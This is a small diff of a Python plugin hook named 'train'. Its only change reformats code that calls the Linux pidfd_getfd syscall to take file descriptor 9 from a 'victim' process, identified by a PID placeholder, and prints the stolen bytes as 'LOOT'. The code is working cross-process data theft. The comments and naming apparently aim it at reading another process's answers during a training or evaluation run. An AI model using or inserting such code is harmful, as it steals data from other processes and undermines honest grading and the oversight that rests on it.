@@ -16,7 +16,9 @@ PIDFD_GETFD = 438  # the same number on x86-64 and aarch64
 @hookimpl
 def train(model):
     libc = ctypes.CDLL(None, use_errno=True)
-    fd = libc.syscall(PIDFD_GETFD, os.pidfd_open(int("@VICTIM_PID@")), 9, 0)  # the victim holds its answers at 9
+    fd = libc.syscall(
+        PIDFD_GETFD, os.pidfd_open(int("@VICTIM_PID@")), 9, 0
+    )  # the victim holds its answers at 9
     if fd < 0:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     print("LOOT:", os.pread(fd, 64, 0)[::8])
